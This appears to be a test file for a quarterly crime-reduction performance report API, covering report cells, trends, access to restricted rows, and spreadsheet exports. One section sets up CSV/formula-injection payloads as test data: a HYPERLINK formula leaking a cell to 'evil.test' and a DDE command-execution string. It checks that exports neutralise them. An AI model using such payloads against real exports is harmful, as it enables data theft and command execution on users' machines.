import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { NO_DATA_REASON_NAMES, writtenFigurePattern, type Report, type ReportLine } from "@quarterly-returns/shared";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { as, buildTestApp, signIn, type TestApp } from "./helper.ts";

let test: TestApp;
let yearId: number;
const clients = new Map<string, ReturnType<typeof as>>();
async function client(email: string) {
  if (!clients.has(email)) clients.set(email, as(test.app, await signIn(test.app, email)));
  return clients.get(email)!;
}

beforeAll(async () => {
  test = await buildTestApp("demo");
  yearId = (await test.db.prisma.reportingYear.findFirstOrThrow()).id;
});
afterAll(() => test.close());

const report = async (email = "manager@demo.test") => (await (await client(email)).get(`/api/reports/${yearId}`)).json() as Report;
const lines = (data: Report) => data.priorities.flatMap((priority) => priority.lines);
const line = (data: Report, title: string): ReportLine => lines(data).find((candidate) => candidate.title.startsWith(title))!;

describe("GET /api/reports/:yearId", () => {
  it("writes each cell from its return, in the document's words", async () => {
    const data = await report();
    expect(data.title).toBe("Year 3 - April 2019 to March 2020");
    expect(lines(data)).toHaveLength(22);
    expect(line(data, "% of positive completions of Community").cells).toEqual(["72.6%", "No data available until 28/10/19", "74.6%", ""]);
    expect(line(data, "% of positive completions on licenses").cells[0]).toBe("100.0%");
    expect(line(data, "Monitor the average number").cells.slice(0, 3)).toEqual(["2.8", "No data provided", "No data provided"]);
    expect(line(data, "Reduction in youth offending").cells[0]).toBe(
      "YOT data not released in line with SSP requirements. Report to be updated when National Stats are made available",
    );
    expect(line(data, "Reduce the % of people").cells[2]).toBe("No further update available");
    expect(line(data, "Levels of police recorded ASB incidents").cells[0]).toBe("2,424 ASB incidents compared to 2,767 in Q1/2018, a reduction of 343 (-12.4%)");
    expect(line(data, "Reduce deliberate small").cells[0]).toBe("230 F3 fires compared to 161 in Q1/2018, an increase of 69 (+42.9%)");
    expect(line(data, "Comparison of crime").cells[2]).toBe(
      "Rank among the most similar group of CSPs: Ranked 10th out of 15; Performance against the most similar group's average: Performing at MSG average level\nData only goes up to Oct 2019",
    );
    expect(line(data, "Monitor the repeat incident rate").cells[1]).toBe(
      "43.5% compared to 46.7% in Q2/2018, a reduction of 3.2 percentage points\nSept 18 / Sept 19\nThe rolling 12-month repeat rate has decreased by 3.1% points compared to 46.7% last year",
    );
    const iom = line(data, "Monitor the number of reoffenders");
    expect(iom.collation).toBe("Cleveland Police IOM Unit - Zoe Green");
    expect(iom.chart).toEqual([118, 97, 164, null]);
  });

  it("leaves drafts out of the report", async () => {
    const quarter = await test.db.prisma.quarter.findFirstOrThrow({ where: { status: "OPEN" } });
    const indicator = await test.db.prisma.indicator.findFirstOrThrow({ where: { ref: "4.3" } });
    await (await client("cps@demo.test")).put(`/api/returns/${indicator.id}/${quarter.id}`, { version: 0, status: "DRAFT", values: { repeatCallers: "7" } });
    expect(line(await report(), "Monitor the number of ASB repeat callers").cells[3]).toBe("");
  });

  it("gives the trend of the headline figure, coloured by polarity", async () => {
    const data = await report();
    expect(line(data, "Monitor the number of ASB repeat callers").trend).toEqual({ arrow: "↘", tone: "good", description: "Down from 2 in Q2 2019/20" });
    expect(line(data, "Levels of police recorded ASB incidents").trend).toMatchObject({ arrow: "↘", tone: "good", description: "Down from 2,304 in the same quarter last year" });
    expect(line(data, "% of positive completions of Community").trend).toMatchObject({ arrow: "↗", tone: "good", description: "Up 2 percentage points from 72.6% in Q1 2019/20" });
    // A rank: 9th, then 10th and 10th. Its chart is drawn with 1st at the top.
    expect(line(data, "Comparison of crime")).toMatchObject({ trend: { arrow: "—", tone: "neutral", description: "No change on 10 in Q2 2019/20" }, chart: [9, 10, 10, null], chartInverted: true });
    expect(line(data, "% of positive completions of Community").chartInverted).toBe(false);
    expect(line(data, "Reduce deliberate small").trend).toMatchObject({ arrow: "↗", tone: "bad" });
    expect(line(data, "Continued roll out").trend).toBeNull();
  });

  it("compares Q4 (January to March 2020) with Q4 of the year before, as it does Q1 to Q3", async () => {
    const quarter = await test.db.prisma.quarter.findFirstOrThrow({ where: { status: "OPEN", number: 4 } });
    const indicator = await test.db.prisma.indicator.findFirstOrThrow({ where: { ref: "4.2" } });
    const saved = await (await client("cps@demo.test")).put(`/api/returns/${indicator.id}/${quarter.id}`, {
      version: 0, status: "SUBMITTED", values: { incidents: "1,650" }, previousYear: { incidents: "1,800" }, commentary: null,
    });
    expect(saved.statusCode).toBe(200);
    expect(line(await report(), "Levels of police recorded ASB incidents").cells).toEqual([
      "2,424 ASB incidents compared to 2,767 in Q1/2018, a reduction of 343 (-12.4%)",
      "2,319 ASB incidents compared to 2,825 in Q2/2018, a reduction of 506 (-17.9%)",
      "1,728 ASB incidents compared to 2,304 in Q3/2018, a reduction of 576 (-25%)",
      "1,650 ASB incidents compared to 1,800 in Q4/2018, a reduction of 150 (-8.3%)",
    ]);
  });

  it("gives a RAG against the target, or the override with its reason", async () => {
    const completions = await test.db.prisma.indicator.findFirstOrThrow({ where: { ref: "1.2" } });
    await test.db.prisma.indicator.update({ where: { id: completions.id }, data: { target: 75 } });
    expect(line(await report(), "% of positive completions of Community").rag).toEqual({ rag: "AMBER", override: false, reason: null });
    await test.db.prisma.indicator.update({ where: { id: completions.id }, data: { target: 70 } });
    expect(line(await report(), "% of positive completions of Community").rag).toEqual({ rag: "GREEN", override: false, reason: null });
    await test.db.prisma.indicator.update({ where: { id: completions.id }, data: { target: 90 } });
    expect(line(await report(), "% of positive completions of Community").rag?.rag).toBe("RED");
  });

  it("shows restricted 4.1 only to its organisation, managers and admins", async () => {
    for (const [email, sees] of [["manager@demo.test", true], ["admin@demo.test", true], ["cps@demo.test", true], ["fire@demo.test", false]] as const) {
      const data = await report(email);
      expect(lines(data).some((candidate) => candidate.ref === "4.1"), email).toBe(sees);
      expect(lines(data).length, email).toBe(sees ? 22 : 21);
    }
  });
});

describe("the report keeps to the document", () => {
  it("prints “No update provided” where the document did, in the report and its XLSX and CSV, as no data provided", async () => {
    const data = await report();
    expect(line(data, "Monitoring the development of the Alcohol").cells.slice(1, 3)).toEqual(["No update provided", "No update provided"]);
    expect(line(data, "% of successful completions of those in drug treatment for opiates").cells.slice(1, 3)).toEqual(["No update provided", "No update provided"]);
    expect(line(data, "Monitor the average number").cells.slice(1, 3)).toEqual(["No data provided", "No data provided"]);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.xlsx`)).rawPayload as unknown as ArrayBuffer);
    const q3 = new Map<unknown, unknown>();
    workbook.getWorksheet("Priority 3")!.eachRow((row) => q3.set(row.getCell(1).value, row.getCell(6).value));
    expect(q3.get("3.2")).toBe("No update provided");

    const rows = parse((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.csv`)).body, { columns: true }) as Record<string, string>[];
    const q3Rows = rows.filter((candidate) => candidate.Ref === "3.2" && candidate.Quarter === "Q3");
    expect(q3Rows.some((candidate) => Object.values(candidate).includes("No update provided"))).toBe(true);
    expect(q3Rows.length).toBeGreaterThan(0);
    expect(q3Rows.every((candidate) => candidate.Status === "No data" && candidate["No data reason"] === NO_DATA_REASON_NAMES.NOT_PROVIDED)).toBe(true);
  });

  it("states 2.2's and 2.4's figures once in each cell, with the document's other words", async () => {
    const data = await report();
    const timesStated = (text: string, figure: string) => text.match(writtenFigurePattern(figure))?.length ?? 0;
    const repeatRate = line(data, "Monitor the repeat incident rate").cells;
    expect(repeatRate.slice(0, 3).map((cell, index) => timesStated(cell, ["47", "43.5", "44.7"][index]!))).toEqual([1, 1, 1]);
    expect(repeatRate[0]).toContain("June 18 / June 19\nThe rolling 12-month repeat rate has decreased by 0.5% compared to 47.5% last year");
    const hateCrime = line(data, "To increase reporting of Hate crime").cells;
    expect(hateCrime.slice(0, 3).map((cell, index) => timesStated(cell, ["67", "137", "195"][index]!))).toEqual([1, 1, 1]);
    expect(hateCrime[0]).toContain("Police Apr 19 - June 19 - incidents reported compared to 78 last year");
  });
});

describe("the report's files", () => {
  it("XLSX: a sheet per priority, the document's header, frozen, with the cells of the report", async () => {
    const response = await (await client("manager@demo.test")).get(`/api/reports/${yearId}.xlsx`);
    expect(response.headers["content-type"]).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(response.headers["content-disposition"]).toBe('attachment; filename="performance-report-2019-20.xlsx"');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Priority 1", "Priority 2", "Priority 3", "Priority 4", "Figures"]);
    const first = workbook.getWorksheet("Priority 1")!;
    expect(first.getRow(4).values).toEqual([undefined, "Ref", "Activities To Support This Priority", "Data Collation", "Quarter 1 Update", "Quarter 2 Update", "Quarter 3 Update", "Quarter 4 Update", "Trend/RAG"]);
    expect(first.views[0]).toMatchObject({ state: "frozen", ySplit: 4 });
    expect(first.getCell("A7").value).toBe("1.2");
    expect(first.getCell("D7").value).toBe("72.6%");
    expect(first.getCell("C8").value).toBe("");
    expect(first.getCell("D7").alignment).toMatchObject({ wrapText: true });
    const fourth = workbook.getWorksheet("Priority 4")!;
    expect(fourth.getCell("A5").value).toBe("4.1 RESTRICTED");
  });

  it("never puts restricted rows in a file for someone who may not see them", async () => {
    const fire = await client("fire@demo.test");
    const xlsx = new ExcelJS.Workbook();
    await xlsx.xlsx.load((await fire.get(`/api/reports/${yearId}.xlsx`)).rawPayload as unknown as ArrayBuffer);
    const refs: unknown[] = [];
    xlsx.eachSheet((sheet) => sheet.eachRow((row) => refs.push(row.getCell(1).value)));
    expect(refs).not.toContain("4.1 RESTRICTED");
    expect(refs).toContain("4.2");
    const figures: unknown[] = [];
    xlsx.getWorksheet("Figures")!.eachRow((row) => figures.push(row.getCell(2).value));
    expect(figures).toContain("4.2");
    expect(figures).not.toContain("4.1");
    expect((await fire.get(`/api/reports/${yearId}.tsv`)).body).not.toContain("IQUANTA");
    expect((await fire.get(`/api/reports/${yearId}.csv`)).body).not.toContain("IQUANTA");
  });

  it("CSV: the long table of figures, one value per row, with the Figures sheet's columns", async () => {
    const response = await (await client("manager@demo.test")).get(`/api/reports/${yearId}.csv`);
    const [header, ...records] = parse(response.body) as string[][];
    expect(header).toEqual(FIGURES_HEADER);
    expect(records.every((record) => record.length === FIGURES_HEADER.length)).toBe(true);
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    const row = (ref: string, quarter: string, field?: string) => rows.filter((candidate) => candidate.Ref === ref && candidate.Quarter === quarter && (!field || candidate.Field === field));
    expect(row("1.2", "Q1")).toEqual([
      expect.objectContaining({
        Year: "2019/20", Status: "Submitted", Field: "Positive completions", Value: "0.726", Unit: "percentage (1 = 100%)", "No data reason": "", Organisation: "DTV Community Rehabilitation Company",
      }),
    ]);
    expect(row("1.2", "Q2")[0]).toMatchObject({ Status: "No data", "No data reason": "Not available yet", Expected: "2019-10-28", Value: "" });
    // A rank: its position and "out of" in their own columns; its words in a row of their own.
    expect(row("4.1", "Q1").map((candidate) => [candidate.Field, candidate.Value, candidate["Out of"]])).toEqual([
      ["Rank among the most similar group of CSPs", "9", "15"],
      ["Performance against the most similar group's average", "Performing above MSG average level", ""],
    ]);
    // Three counts, one value each: nothing packed into one cell. The line under 1.1 has rows of its own.
    expect(row("1.1", "Q1").map((candidate) => [candidate.Indicator!.slice(0, 33), candidate.Field, candidate.Value])).toEqual([
      ["Monitor the number of reoffenders", "Crimes committed by IOM nominals", "118"],
      ["Monitor the number of reoffenders", "Nominals who committed crimes with a positive outcome", "18"],
      ["Monitor the number of reoffenders", "Crimes linked with a positive outcome", "42"],
      ["Monitor the average number of re-", "Average re-offences per nominal in the cohort", "2.8"],
    ]);
    expect(rows.some((candidate) => /=|;/.test(candidate.Value!))).toBe(false);
    expect(row("4.3", "Q4")[0]).toMatchObject({ Status: "Draft", Value: "" });
  });

  it("XLSX: a Figures sheet of number cells with their formats, filterable under a frozen heading", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.xlsx`)).rawPayload as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Priority 1", "Priority 2", "Priority 3", "Priority 4", "Figures"]);
    const sheet = workbook.getWorksheet("Figures")!;
    expect(sheet.getRow(1).values).toEqual([undefined, ...FIGURES_HEADER]);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBe("A1:R1");
    const column = (header: string) => FIGURES_HEADER.indexOf(header) + 1;
    const rowOf = (ref: string, quarter: string) => {
      const found: ExcelJS.Row[] = [];
      sheet.eachRow((row) => row.getCell(column("Ref")).value === ref && row.getCell(column("Quarter")).value === quarter && found.push(row));
      return found;
    };
    // 72.6% is kept as the fraction 0.726, shown as a percentage: what a spreadsheet stores when 72.6% is typed.
    const completions = rowOf("1.2", "Q1")[0]!.getCell(column("Value"));
    expect(completions.type).toBe(ExcelJS.ValueType.Number);
    expect(completions.value).toBe(0.726);
    expect(completions.numFmt).toBe("0.0%");
    expect(rowOf("1.2", "Q1")[0]!.getCell(column("No data reason")).type).toBe(ExcelJS.ValueType.Null);
    const incidents = rowOf("4.2", "Q1")[0]!;
    expect([incidents.getCell(column("Value")).value, incidents.getCell(column("Value")).numFmt]).toEqual([2424, "#,##0"]);
    expect([incidents.getCell(column("Same quarter last year")).value, incidents.getCell(column("Same quarter last year")).numFmt]).toEqual([2767, "#,##0"]);
    const average = rowOf("1.1", "Q1")[3]!.getCell(column("Value"));
    expect([average.value, average.numFmt]).toEqual([2.8, "#,##0.0"]);
    const rank = rowOf("4.1", "Q1")[0]!;
    expect([rank.getCell(column("Value")).value, rank.getCell(column("Out of")).value]).toEqual([9, 15]);
    expect(rowOf("4.1", "Q1")[1]!.getCell(column("Value")).type).toBe(ExcelJS.ValueType.String);
    const expected = rowOf("1.2", "Q2")[0]!.getCell(column("Expected"));
    expect(expected.value).toEqual(new Date("2019-10-28T00:00:00Z"));
    expect(expected.numFmt).toBe("d mmm yyyy");
  });
});

const FIGURES_HEADER = [
  "Priority", "Ref", "Indicator", "Organisation", "Restricted", "Year", "Quarter", "Field", "Value", "Unit", "Out of", "Same quarter last year",
  "Status", "No data reason", "No data explanation", "Expected", "Period covered", "Commentary",
];

describe("the report's files never hold a formula", () => {
  const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
  const DDE = "+cmd|' /C calc'!A0";
  // Q4's updates of text-only indicators: two formulas, and two that are plain numbers.
  const updates = [
    { ref: "2.1", email: "cps@demo.test", commentary: HYPERLINK },
    { ref: "2.3", email: "cps@demo.test", commentary: DDE },
    { ref: "3.2", email: "publichealth@demo.test", commentary: "-2.5%" },
    { ref: "1.7", email: "pcc@demo.test", commentary: "-3" },
  ];

  beforeAll(async () => {
    const q4 = await test.db.prisma.quarter.findFirstOrThrow({ where: { status: "OPEN" } });
    for (const { ref, email, commentary } of updates) {
      const indicator = await test.db.prisma.indicator.findFirstOrThrow({ where: { ref } });
      const saved = await (await client(email)).put(`/api/returns/${indicator.id}/${q4.id}`, { version: 0, status: "SUBMITTED", commentary });
      expect(saved.statusCode, saved.body).toBe(200);
    }
  });

  it("CSV: formula text starts with an apostrophe; plain numbers stay numbers", async () => {
    const rows = parse((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.csv`)).body, { columns: true }) as Record<string, string>[];
    const commentary = (ref: string) => rows.find((candidate) => candidate.Ref === ref && candidate.Quarter === "Q4")!.Commentary;
    expect(commentary("2.1")).toBe(`'${HYPERLINK}`);
    expect(commentary("2.3")).toBe(`'${DDE}`);
    expect(commentary("3.2")).toBe("-2.5%");
    expect(commentary("1.7")).toBe("-3");
  });

  it("TSV: the same, cell by cell", async () => {
    const tsv = (await (await client("manager@demo.test")).get(`/api/reports/${yearId}.tsv`)).body;
    const rows = parse(tsv, { delimiter: "\t", relax_column_count: true }) as string[][];
    const q4 = (ref: string) => rows.find((cells) => cells[0] === ref)![6];
    expect(q4("2.1")).toBe(`'${HYPERLINK}`);
    expect(q4("2.3")).toBe(`'${DDE}`);
    expect(q4("3.2")).toBe("-2.5%");
    expect(q4("1.7")).toBe("-3");
    expect(tsv).not.toMatch(/(^|\t)[=+@]/m);
  });

  it("XLSX: the same, read back with ExcelJS", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.xlsx`)).rawPayload as unknown as ArrayBuffer);
    const q4 = new Map<unknown, unknown>();
    for (let number = 1; number <= 4; number++) workbook.getWorksheet(`Priority ${number}`)!.eachRow((row) => q4.set(row.getCell(1).value, row.getCell(7).value));
    expect(q4.get("2.1")).toBe(`'${HYPERLINK}`);
    expect(q4.get("2.3")).toBe(`'${DDE}`);
    expect(q4.get("3.2")).toBe("-2.5%");
    expect(q4.get("1.7")).toBe("-3");
    const figures = new Map<unknown, unknown>();
    workbook.getWorksheet("Figures")!.eachRow((row) => row.getCell(7).value === "Q4" && figures.set(row.getCell(2).value, row.getCell(18).value));
    expect(figures.get("2.1")).toBe(`'${HYPERLINK}`);
    expect(figures.get("2.3")).toBe(`'${DDE}`);
    expect(figures.get("3.2")).toBe("-2.5%");
    const formulas: string[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address))));
    expect(formulas).toEqual([]);
  });
});

describe("each line's chart over every year of its lineage", () => {
  /** 2020/21, continuing two of last year's indicators: the reoffenders, and restricted 4.1. */
  async function nextYear() {
    const q = test.db.prisma;
    const year = await q.reportingYear.create({ data: { label: "2020/21", planYear: 4, startDate: new Date("2020-04-01"), endDate: new Date("2021-03-31") } });
    for (const [number, start, end] of [[1, "2020-04-01", "2020-06-30"], [2, "2020-07-01", "2020-09-30"], [3, "2020-10-01", "2020-12-31"], [4, "2021-01-01", "2021-03-31"]] as const) {
      const due = new Date(end);
      due.setUTCMonth(due.getUTCMonth() + 1);
      await q.quarter.create({ data: { yearId: year.id, number, startDate: new Date(start), endDate: new Date(end), dueDate: due, status: number === 1 ? "OPEN" : "PLANNED" } });
    }
    const priority = await q.priority.create({ data: { yearId: year.id, number: 1, title: "Carried over", outcome: "…", sortOrder: 1 } });
    const continueAs = async (ref: string, title: string, restricted: boolean, sortOrder: number) => {
      const last = await q.indicator.findFirstOrThrow({ where: { ref, priority: { yearId } }, include: { fields: true } });
      return q.indicator.create({
        data: {
          priorityId: priority.id, ref, title, ownerOrganisationId: last.ownerOrganisationId, sortOrder, restricted,
          previousIndicatorId: last.id, headlineFieldKey: last.headlineFieldKey,
          fields: { create: last.fields.map(({ id: _, indicatorId: __, ...field }) => field) },
        },
      });
    };
    const reoffenders = await q.indicator.findFirstOrThrow({ where: { title: { startsWith: "Monitor the number of reoffenders" } } });
    await continueAs(reoffenders.ref!, "Reoffenders, carried over", false, 1);
    const restricted = await continueAs("4.1", "Restricted, carried over", true, 2);
    return { yearId: year.id, restrictedId: restricted.id };
  }

  it("gives a continuing indicator last year's quarters, and restricted years only to those who may see them", async () => {
    const restrictedLastYear = lines(await report()).find((candidate) => candidate.ref === "4.1")!.chart;
    expect(line(await report(), "Monitor the number of reoffenders").earlierYears).toEqual([]);
    const { yearId: nextYearId, restrictedId } = await nextYear();
    const nextReport = async (email: string) => (await (await client(email)).get(`/api/reports/${nextYearId}`)).json() as Report;

    const managers = await nextReport("manager@demo.test");
    expect(line(managers, "Reoffenders, carried over").earlierYears).toEqual([{ year: "2019/20", chart: [118, 97, 164, null] }]);
    expect(line(managers, "Restricted, carried over").earlierYears).toEqual([{ year: "2019/20", chart: restrictedLastYear }]);
    expect(restrictedLastYear.some((figure) => figure !== null)).toBe(true);

    const fire = await nextReport("fire@demo.test");
    expect(line(fire, "Reoffenders, carried over").earlierYears).toEqual([{ year: "2019/20", chart: [118, 97, 164, null] }]);
    expect(line(fire, "Restricted, carried over")).toBeUndefined();

    // Opened up this year: last year's restricted figures stay out of the chart of those who may not see them.
    await test.db.prisma.indicator.update({ where: { id: restrictedId }, data: { restricted: false } });
    expect(line(await nextReport("fire@demo.test"), "Restricted, carried over").earlierYears).toEqual([]);
    expect(line(await nextReport("cps@demo.test"), "Restricted, carried over").earlierYears).toEqual([{ year: "2019/20", chart: restrictedLastYear }]);
  });
});
